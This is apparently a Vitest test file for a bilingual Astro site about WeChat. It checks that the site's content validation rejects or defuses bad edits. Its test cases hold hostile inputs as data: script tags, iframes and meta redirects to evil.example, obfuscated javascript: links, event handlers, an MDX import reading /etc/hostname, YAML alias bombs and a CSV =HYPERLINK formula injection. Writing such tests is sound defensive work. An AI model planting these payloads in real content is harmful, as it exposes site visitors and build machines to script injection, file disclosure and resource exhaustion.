/**
 * The bad-content corpus: each case breaks content files the way a careless or hostile editor
 * might, in a throwaway copy, and requires the mistake to fail naming the right file and line
 * (found in the edited text here, never taken from the output), or to be made harmless.
 *
 * Most cases run the build's own content checks directly on the copy's content/ (content-check.ts,
 * well under a second each); the few marked `build` need the MDX compiler or the built files and run
 * the real `astro build` (about 12 s each on two cores): each failing one in a copy of its own,
 * the successful ones together in one copy that also follows EDITING.md (editing-guide.ts).
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/data/csv.ts';
import { unsafeHtml } from '../../src/security/unsafe-html.ts';
import { checkContent } from './content-check.ts';
import { applyEdit, lineOf, type Edit, type FileEdit } from './edits.ts';
import { editingGuideTests, followEditingGuide } from './editing-guide.ts';
import { build, makeSiteCopy } from './site-copy.ts';

interface BadCase {
  name: string;
  /** The edits; the first one's file and line are what the message must name, unless `named`. */
  edits: FileEdit[];
  /** When the mistake is reported in another file than the one edited (one-language placements). */
  named?: { file: string; at: string };
  /** Words the message must contain: the problem and how to fix it. */
  says?: string;
  /** The edit is harmless: the checks (or the build) pass, and `safe` checks the output. */
  ok?: true;
  safe?: (dist: string) => void;
  /** Needs the real build: the MDX compiler, Astro's loaders, or the built files. */
  build?: true;
  /** MDX parser errors name the line only inside the message: `(48:1-48:24)`. */
  parserPosition?: true;
}

const edit = (file: string, e: Edit, at?: string): FileEdit => ({ file, edit: e, at });
const block = (lines: string[]) => `\n${lines.join('\n')}\n`;

const EN = 'content/story/en.mdx';
const ZH = 'content/story/zh.mdx';
const MAU_CSV = 'content/data/wechat-mau.csv';
const MAU_YAML = 'content/data/wechat-mau.yaml';
const MAU_CHART = 'content/charts/wechat-mau.yaml';
const GLOSSARY = 'content/glossary.yaml';
const SIDENOTES = 'content/notes/sidenotes.yaml';
const EVENTS = 'content/timeline/events.yaml';
const FUTURE = '2099-01-01';

/** An alias bomb: each level repeats the one before ten times (10^4 values from a few lines). */
const aliasBomb = (indent: string) =>
  [
    `${indent}bomb-a: &bomb-a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]`,
    `${indent}bomb-b: &bomb-b [*bomb-a, *bomb-a, *bomb-a, *bomb-a, *bomb-a, *bomb-a, *bomb-a, *bomb-a, *bomb-a, *bomb-a]`,
    `${indent}bomb-c: &bomb-c [*bomb-b, *bomb-b, *bomb-b, *bomb-b, *bomb-b, *bomb-b, *bomb-b, *bomb-b, *bomb-b, *bomb-b]`,
    `${indent}bomb-d: [*bomb-c, *bomb-c, *bomb-c, *bomb-c, *bomb-c, *bomb-c, *bomb-c, *bomb-c, *bomb-c, *bomb-c]`,
  ].join('\n');

/** 10,000 daily rows of one series, from 1990 on: far over the dataset row budget. */
function manyRows(): { csv: string; row501: string } {
  const rows: string[] = [];
  for (let day = 0; day < 10_000; day++) {
    const date = new Date(Date.UTC(1990, 0, 1) + day * 86_400_000).toISOString().slice(0, 10);
    rows.push(`${date},mau,${100_000_000 + day},tencent-2q2013,false,`);
  }
  return { csv: `date,series,value,source,estimate,note\n${rows.join('\n')}\n`, row501: rows[500]! };
}
const many = manyRows();

const SCIO_SOURCE = '  - name: "State Council Information Office press conference, MIIT spokesman Zhao Zhiguo, 2021-09-13 (report by 上游新闻 via Tencent News)"';

export const corpus: BadCase[] = [
  // ── The story (MDX) ────────────────────────────────────────────────────────────────
  { name: 'MDX: <Term> with an id not in the glossary', edits: [edit(ZH, { replace: '<Term id="hulian-hutong">', with: '<Term id="hulian-hutong-typo">' })], says: 'no such id in content/glossary.yaml' },
  { name: 'MDX: <Chart> with an id that has no chart spec', edits: [edit(EN, { replace: '<Chart id="wechat-net-additions" />', with: '<Chart id="wechat-net-adds" />' })], says: 'no such id in content/charts/' },
  { name: 'MDX: a tag never closed', edits: [edit(EN, { replace: '<Chart id="wechat-mau" />', with: '<Chart id="wechat-mau">' })], parserPosition: true, build: true },
  {
    name: 'MDX: an import of node:fs and an expression that reads a file of the build machine',
    edits: [edit(EN, { replace: '<Chart id="wechat-mau" />', with: 'import { readFileSync } from "node:fs"\n\n{readFileSync("/etc/hostname", "utf8")}\n\n<Chart id="wechat-mau" />' })],
    says: 'a story may not import or export anything',
    build: true,
  },
  { name: 'MDX: an import from another site', edits: [edit(EN, { replace: '<Chart id="wechat-mau" />', with: 'import x from "https://evil.example/x.js"\n\n<Chart id="wechat-mau" />' })], says: 'may not import' },
  { name: 'MDX: an expression in the text', edits: [edit(EN, { replace: 'Yet ideals and reality', with: 'Yet {process.env.HOME} ideals and reality' })], says: 'may not run code in braces' },
  {
    name: 'MDX: a meta refresh redirect',
    edits: [edit(ZH, { replace: '<Chart id="wechat-mau" />', with: '<meta http-equiv="refresh" content="0;url=https://evil.example/" />\n\n<Chart id="wechat-mau" />' })],
    says: '<meta>: this HTML element is not allowed',
  },
  { name: 'MDX: a raw <script>', edits: [edit(EN, { replace: '<Chart id="wechat-mau" />', with: '<script>alert(1)</script>\n\n<Chart id="wechat-mau" />' })], says: '<script>: this HTML element is not allowed' },
  { name: 'MDX: an <iframe>', edits: [edit(EN, { replace: '<Chart id="wechat-mau" />', with: '<iframe src="https://evil.example/" />\n\n<Chart id="wechat-mau" />' })], says: '<iframe>: this HTML element is not allowed' },
  { name: 'MDX: a javascript: link in Markdown', edits: [edit(EN, { replace: 'Yet ideals and reality', with: 'Yet [ideals](JavaScript:alert(1)) and reality' })], says: 'a javascript: address is not allowed' },
  { name: 'MDX: an entity-obfuscated javascript: href', edits: [edit(EN, { replace: 'Yet ideals and reality', with: 'Yet <a href="&#106;avascript&colon;alert(1)">ideals</a> and reality' })], says: 'a javascript: address is not allowed' },
  { name: 'MDX: an event-handler attribute', edits: [edit(EN, { replace: 'Yet ideals and reality', with: 'Yet <span onmouseover="alert(1)">ideals</span> and reality' })], says: 'event-handler attributes' },
  {
    name: 'MDX: a chart taken out of the Chinese story only',
    edits: [edit(ZH, { replace: '<Chart id="wechat-mau" />\n', with: '' }, '<Chart id="wechat-net-additions" />')],
    named: { file: EN, at: '<Chart id="wechat-mau" />' },
    says: '<Chart id="wechat-mau"> is placed in this story but not in',
  },
  { name: 'MDX: the same chart twice in one story', edits: [edit(ZH, { replace: '<Chart id="wechat-net-additions" />', with: '<Chart id="wechat-mau" />\n\n<Chart id="wechat-net-additions" />' })], says: 'is placed twice in this story' },
  { name: 'MDX: a term in one language only', edits: [edit(EN, { replace: 'Yet ideals and reality', with: 'Yet <Term id="xiaochengxu">ideals</Term> and reality' })], says: '<Term id="xiaochengxu"> is placed in this story but not in' },
  {
    name: 'MDX: a sidenote taken out of the Chinese story only',
    edits: [edit(ZH, { replace: '<Sidenote id="walls-since-2008">过去十余年间垒起的高墙</Sidenote>', with: '过去十余年间垒起的高墙' })],
    named: { file: EN, at: 'Earlier, in September this year' },
    says: '<Sidenote id="walls-since-2008"> is placed in this story but not in',
  },
  { name: 'story frontmatter: original.url is a javascript: address', edits: [edit(ZH, { replace: 'original:\n', with: 'original:\n  url: "javascript:alert(1)"\n' }, 'url: "javascript:')], says: 'original.url: must be a full http(s):// address', build: true },

  // ── Datasets ───────────────────────────────────────────────────────────────────────
  { name: 'CSV: a value that is not a plain number', edits: [edit(MAU_CSV, { replace: '2013-06-30,mau,235800000,', with: '2013-06-30,mau,2.358亿,' })] },
  { name: 'CSV: the same date twice in a series', edits: [edit(MAU_CSV, { replace: '2013-09-30,mau,271900000,', with: '2013-06-30,mau,271900000,' })] },
  { name: 'CSV: a missing column in the header', edits: [edit(MAU_CSV, { replace: 'date,series,value,source,estimate,note\n', with: 'date,series,value,source,note\n' })] },
  { name: 'CSV: 1e999, an infinite value', edits: [edit(MAU_CSV, { replace: '2013-09-30,mau,271900000,', with: '2013-09-30,mau,1e999,' })], says: 'is not a finite number', build: true },
  { name: 'CSV: a number with thousands separators, unquoted', edits: [edit(MAU_CSV, { replace: '2013-09-30,mau,271900000,', with: '2013-09-30,mau,271,900,000,' })], says: 'looks like one number written with thousands separators. Write it without commas: 271900000' },
  { name: 'CSV: a negative count of accounts', edits: [edit(MAU_CSV, { replace: '2013-09-30,mau,271900000,', with: '2013-09-30,mau,-271900000,' })], says: 'is negative' },
  { name: 'CSV: a row dated 2099 that is not marked as an estimate', edits: [edit(MAU_CSV, { append: '2099-12-31,mau,1400000000,tencent-4q2022,false,\n' })], says: 'is after today' },
  { name: 'CSV: a share over 100 percent', edits: [edit('content/data/mobile-time-share.csv', { replace: '2019-09-30,tencent-ciw,42,', with: '2019-09-30,tencent-ciw,420,' })], says: 'is outside 0–100' },
  { name: 'CSV: 10,000 rows, over the row budget', edits: [edit(MAU_CSV, { transform: () => many.csv }, many.row501)], says: 'rows is over the budget of 500 rows' },
  { name: 'CSV: a whitespace-only last line is ignored', edits: [edit(MAU_CSV, { transform: (text) => `${text}   \t\n` })], ok: true },
  { name: 'CSV: a byte-order mark and CRLF line endings are read', edits: [edit(MAU_CSV, { transform: (text) => `\uFEFF${text.replaceAll('\n', '\r\n')}` })], ok: true },
  {
    name: 'dataset YAML: a source without url',
    edits: [
      edit(MAU_YAML, {
        replace: '  tencent-2q2013:\n    name: "Tencent Holdings, 2013 second quarter and interim results, 2013-08-14; via MacRumors"\n    url: "https://www.macrumors.com/2013/08/14/whatsapp-rival-wechat-continues-strong-growth-as-user-base-tops-235-million"\n',
        with: '  tencent-2q2013:\n    name: "Tencent Holdings, 2013 second quarter and interim results, 2013-08-14; via MacRumors"\n',
      }),
    ],
  },
  { name: 'dataset YAML: a source accessed in the future', edits: [edit(MAU_YAML, { replace: '    accessed: "2026-11-25"\n', with: `    accessed: "${FUTURE}"\n` }, `accessed: "${FUTURE}"`)], says: 'is after today' },
  { name: 'dataset YAML: a javascript: source url', edits: [edit(MAU_YAML, { replace: '    url: "https://www.macrumors.com/', with: '    url: "javascript:alert(1)//www.macrumors.com/' }, 'url: "javascript:')], says: 'url must be a full http(s):// address' },
  { name: 'dataset YAML: an alias bomb', edits: [edit(MAU_YAML, { append: `${aliasBomb('')}\n` }, 'bomb-b:')], says: 'expand to too much data' },

  // ── Charts ─────────────────────────────────────────────────────────────────────────
  { name: 'chart spec: a series the dataset does not have', edits: [edit(MAU_CHART, { replace: '    series: mau\n', with: '    series: dau\n' })] },
  { name: 'chart spec: y.max below the data (a one-zero slip)', edits: [edit(MAU_CHART, { append: 'y:\n  max: 500000000\n' }, '  max: 500000000')], says: 'y.max 500000000 cuts off data' },
  { name: 'chart spec: y.min above the data', edits: [edit(MAU_CHART, { append: 'y:\n  min: 400000000\n' }, '  min: 400000000')], says: 'y.min 400000000 cuts off data' },
  { name: 'chart spec: y.max: 1e999', edits: [edit(MAU_CHART, { append: 'y:\n  max: 1e999\n' }, '  max: 1e999')], says: 'is not a finite number' },
  { name: 'chart spec: an annotation dated outside the axis', edits: [edit(MAU_CHART, { replace: '  - date: "2013-11-01"', with: '  - date: "2030-11-01"' })], says: 'is outside the time axis' },
  {
    name: 'chart spec: an unbreakable 64-character series label',
    edits: [edit(MAU_CHART, { replace: 'label: {zh: "月活跃账户", en: "Monthly active accounts"}', with: `label: {zh: "月活跃账户", en: "${'Monthlyactiveaccounts'.repeat(3)}x"}` })],
    says: 'is too wide for a phone',
  },
  { name: 'chart spec: an alias bomb', edits: [edit(MAU_CHART, { append: `${aliasBomb('')}\n` }, 'bomb-b:')], says: 'expand to too much data' },

  // ── Timeline, glossary, notes ─────────────────────────────────────────────────────
  {
    name: 'timeline: an event without sources',
    edits: [edit(EVENTS, { append: block(['- id: test-unsourced-event', '  date: "2025-12-31"', '  precision: day', '  category: product', '  epilogue: true', '  title: {zh: "测试事件", en: "A test event"}', '  body: {zh: "没有来源的事件。", en: "An event without sources."}']) })],
  },
  {
    name: 'timeline: an event out of date order',
    edits: [
      edit(EVENTS, {
        append: block(['- id: test-early-event', '  date: "2012-01-01"', '  precision: day', '  category: market', '  epilogue: false', '  title: {zh: "测试事件", en: "A test event"}', '  body: {zh: "日期早于前一事件。", en: "Dated before the event above it."}', '  sources:', '    - {name: "Test", url: "https://example.com/", accessed: "2026-11-25", tier: press}']),
      }),
    ],
  },
  {
    name: 'timeline: a source accessed in the future',
    edits: [
      edit(
        EVENTS,
        { append: block(['- id: test-future-access', '  date: "2026-02-10"', '  precision: day', '  category: product', '  epilogue: true', '  title: {zh: "测试事件", en: "A test event"}', '  body: {zh: "测试。", en: "A test."}', '  sources:', `    - {name: "Test", url: "https://example.com/", accessed: "${FUTURE}", tier: press}`]) },
        `    - {name: "Test", url: "https://example.com/", accessed: "${FUTURE}", tier: press}`,
      ),
    ],
    says: 'is after today',
  },
  {
    name: 'glossary: a term without its English definition',
    edits: [
      edit(
        GLOSSARY,
        {
          replace:
            '    en: "The idea that rival internet platforms should stop walling each other off, so that links, content and services work across them. In 2021 China\'s Ministry of Industry and Information Technology (MIIT) made unblocking links a priority of a clean-up campaign and called interconnection an inevitable choice for the industry."\n',
          with: '',
        },
        // A problem is reported at its field: here the definition missing its English text.
        '  definition:',
      ),
    ],
  },
  { name: 'glossary: an alias bomb', edits: [edit(GLOSSARY, { append: `- id: "alias-bomb"\n${aliasBomb('  ')}\n` }, '  bomb-b:')], says: 'expand to too much data', build: true },
  {
    name: 'glossary: a source reused with a YAML anchor and alias is read',
    edits: [
      edit(GLOSSARY, {
        transform: (text) => {
          const first = text.indexOf(SCIO_SOURCE);
          const second = text.indexOf(SCIO_SOURCE, first + 1);
          const end = text.indexOf('\n  - ', second + 1);
          const anchored = `${text.slice(0, first)}  - &scio-press\n    name${text.slice(first + '  - name'.length, second)}`;
          return `${anchored}  - *scio-press${text.slice(end)}`;
        },
      }),
    ],
    ok: true,
  },
  { name: 'glossary: a javascript: source url', edits: [edit(GLOSSARY, { replace: '    url: "https://new.qq.com/omn/20210913/20210913A04YWM00.html"', with: '    url: "javascript:alert(1)"' }, 'url: "javascript:alert(1)"')], says: 'url must be a full http(s):// address' },
  {
    name: 'sidenote: a note without sources',
    edits: [edit(SIDENOTES, { append: block(['- id: "test-unsourced-note"', '  paragraph: 2', '  anchor: "微信"', '  kind: "context"', '  text: {zh: "没有来源的旁注。", en: "A note without sources."}']) })],
  },
  {
    name: 'sidenote: a source accessed in the future',
    edits: [edit(SIDENOTES, { append: block(['- id: "test-future-note"', '  paragraph: 2', '  anchor: "微信"', '  kind: "context"', '  text: {zh: "旁注。", en: "A note."}', '  sources:', `    - {name: "Test", url: "https://example.com/", accessed: "${FUTURE}", tier: press}`]) }, `accessed: "${FUTURE}"`)],
    says: 'is after today',
  },

  // ── Exports: built, and safe whatever the content holds ────────────────────────────
  {
    name: 'exports: a two-line YAML title, a line break in a label, a BOM, CRLF and a formula note make a well-formed, safe CSV',
    edits: [
      edit(MAU_YAML, {
        replace: 'title: {zh: "微信及WeChat合并月活跃账户数", en: "Weixin and WeChat combined monthly active accounts"}',
        with: 'title:\n  zh: "微信及WeChat合并月活跃账户数"\n  en: |\n    Weixin and WeChat\n    2099-12-31,mau,1,tencent-4q2022,false,fake row',
      }),
      edit(MAU_YAML, { replace: '  mau: {zh: "合并月活跃账户数", en: "Combined monthly active accounts"}', with: '  mau: {zh: "合并月活跃账户数", en: "Combined monthly\\nactive accounts"}' }),
      edit(MAU_CSV, {
        transform: (text) => `\uFEFF${text.replace('+121% YoY; first quarter', '=HYPERLINK("https://evil.example";"x") first quarter').replace(/\n(?=2014)/g, '\r\n')}`,
      }),
    ],
    ok: true,
    build: true,
    safe: (dist) => {
      const csv = readFileSync(join(dist, 'data/wechat-mau.csv'), 'utf8');
      expect(csv).not.toContain('\uFEFF');
      expect(csv).not.toContain('\r');
      const lines = csv.split('\n');
      const header = lines.indexOf('date,series,value,source,estimate,note');
      expect(header).toBeGreaterThan(0);
      expect(lines.slice(0, header).every((line) => line.startsWith('# '))).toBe(true);
      const rows = parseCsv(lines.slice(header).join('\n')).slice(1);
      expect(rows.map((r) => r.fields[0])).not.toContain('2099-12-31');
      expect(rows.length).toBe(parseCsv(readFileSync(resolve('content/data/wechat-mau.csv'), 'utf8')).length - 1);
      expect(rows.find((r) => r.fields[0] === '2013-12-31')!.fields[5]).toMatch(/^'=HYPERLINK/);
      // The standalone SVG: the source line and the estimate note stay two sentences.
      const svg = readFileSync(join(dist, 'charts/wechat-mau.en.svg'), 'utf8');
      expect(svg).toContain('reprints). Hollow');
      for (const page of ['index.html', 'en/index.html']) expect(unsafeHtml(readFileSync(join(dist, page), 'utf8'))).toEqual([]);
    },
  },
  // ── Truth: the sources must say it, the words must match the data ─────────────────
  {
    name: 'truth: a figure its source does not say (PDD 2020-09-30 back to 733.3 million)',
    edits: [edit('content/data/pinduoduo-active-buyers.csv', { replace: '2020-09-30,buyers,731300000,', with: '2020-09-30,buyers,733300000,' })],
    says: 'is not in its source\'s words',
  },
  {
    name: 'truth: a stated growth rate the rows do not give',
    edits: [edit('content/data/pinduoduo-active-buyers.yaml', { replace: '      - {kind: yoy, percent: 36}\n', with: '      - {kind: yoy, percent: 38}\n' })],
  },
  {
    name: 'truth: a chart claim its own bars contradict',
    edits: [edit('content/charts/wechat-net-additions.yaml', { replace: '  - {kind: peaks, at: "2015-12-31"}\n', with: '  - {kind: fewer-every-year}\n' })],
    says: 'is false',
  },
  {
    name: 'truth: a correction naming a chart that does not exist',
    edits: [edit('content/corrections.yaml', { replace: '  charts: [pinduoduo-vs-alibaba]\n', with: '  charts: [pinduoduo-vs-alibab]\n' })],
    says: 'unknown id',
  },
];

interface Outcome {
  /** The problem reported, or undefined when the content passed. */
  message: string | undefined;
  /** Full build output, for build cases. */
  output?: string;
  line?: number;
  dist?: string;
}

/** Runs `tasks` with at most `limit` at once (the machine has 2 cores). */
async function pool<T>(tasks: (() => Promise<T>)[], limit: number): Promise<T[]> {
  const results: T[] = new Array(tasks.length);
  let next = 0;
  const worker = async () => {
    while (next < tasks.length) {
      const i = next++;
      results[i] = await tasks[i]!();
    }
  };
  await Promise.all(Array.from({ length: Math.min(limit, tasks.length) }, worker));
  return results;
}

const outcomes = new Map<string, Outcome>();
/** The build of the successful cases' copy, which also follows the editing guide. */
let guideBuild: { code: number; output: string; dir: string } | undefined;
const cleanups: (() => void)[] = [];

/** Applies a case's edits in a folder; returns the line the message must name. */
function applyCase(c: BadCase, read: (file: string) => string, write: (file: string, text: string) => void): number | undefined {
  let line: number | undefined;
  c.edits.forEach((e, i) => {
    let original = '';
    try {
      original = read(e.file);
    } catch {
      // a new file
    }
    const result = applyEdit(original, e);
    write(e.file, result.text);
    if (i === 0) line = result.line;
  });
  return c.named ? lineOf(read(c.named.file), c.named.at, c.named.file) : line;
}

beforeAll(async () => {
  const started = Date.now();
  // Cheap cases: a copy of content/ only, checked in-process.
  for (const c of corpus.filter((c) => !c.build)) {
    const dir = mkdtempSync(join(tmpdir(), 'kaimen-content-'));
    cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
    cpSync(resolve('content'), join(dir, 'content'), { recursive: true });
    const line = applyCase(
      c,
      (file) => readFileSync(join(dir, file), 'utf8'),
      (file, text) => writeFileSync(join(dir, file), text),
    );
    outcomes.set(c.name, { message: await checkContent(dir), line });
  }
  const cheap = Date.now();
  // A failing build stops at its first error, so each failing case needs a copy and a build of
  // its own; the successful ones share one copy, with the editing guide's additions too.
  const okBuild = async () => {
    const copy = makeSiteCopy();
    cleanups.push(copy.remove);
    const okCases = corpus.filter((c) => c.build && c.ok);
    for (const c of okCases) applyCase(c, copy.read, copy.write);
    followEditingGuide(copy);
    const result = await build(copy.dir);
    guideBuild = { ...result, dir: copy.dir };
    const message = result.code === 0 ? undefined : result.output;
    for (const c of okCases) outcomes.set(c.name, { message, output: result.output, dist: join(copy.dir, 'dist') });
  };
  const failingBuilds = corpus
    .filter((c) => c.build && !c.ok)
    .map((c) => async () => {
      const copy = makeSiteCopy();
      cleanups.push(copy.remove);
      const line = applyCase(c, copy.read, copy.write);
      const result = await build(copy.dir);
      const message = result.code === 0 ? undefined : result.output;
      outcomes.set(c.name, { message, output: result.output, line, dist: join(copy.dir, 'dist') });
    });
  // The successful build is the longest: started first, it does not end last alone.
  await pool([okBuild, ...failingBuilds], 2);
  const builds = corpus.filter((c) => c.build).length;
  console.log(`bad-content corpus: ${corpus.length - builds} cases checked in ${cheap - started} ms, ${builds} built in ${failingBuilds.length + 1} builds (the successful ones together, with the editing guide) in ${Date.now() - cheap} ms`);
  // About a minute alone; npm test runs it beside the browser tests (scripts/test-all.ts), and
  // on a two-core machine shared with other work its builds took over eight minutes.
}, 900_000);

afterAll(() => {
  for (const cleanup of cleanups) cleanup();
}, 60_000);

describe('bad content fails naming file and line, or is made harmless', () => {
  it('has at least 40 cases across MDX, data, charts, timeline, glossary, notes and exports', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(40);
    const areas = new Set(corpus.map((c) => c.edits[0]!.file.split('/')[1]));
    for (const area of ['story', 'data', 'charts', 'timeline', 'glossary.yaml', 'notes']) expect(areas).toContain(area);
  });

  it.each(corpus.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const outcome = outcomes.get(c.name)!;
    if (c.ok) {
      expect(outcome.message, outcome.message?.slice(-3000)).toBeUndefined();
      c.safe?.(outcome.dist!);
      return;
    }
    expect(outcome.message, 'expected the mistake to be reported').toBeDefined();
    const message = outcome.message!;
    const file = c.named?.file ?? c.edits[0]!.file;
    if (c.parserPosition) {
      expect(message).toContain(`${file}:`);
      expect(message).toMatch(new RegExp(`\\(${outcome.line}:[0-9]+`));
      return;
    }
    // `file:line` followed by `:column`, `:` or the end: line 3 must not match line 30.
    const named = new RegExp(`${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:${outcome.line}(?![0-9])[^\\n]*`);
    expect(message, `expected "${file}:${outcome.line}" in:\n${message.slice(-3000)}`).toMatch(named);
    const line = named.exec(message)![0];
    expect(line, 'the message names no node_modules path').not.toContain('node_modules');
    if (c.says) expect(line).toContain(c.says);
  });
});

describe('EDITING.md: adding a chart and a timeline event', () => editingGuideTests(() => guideBuild!));
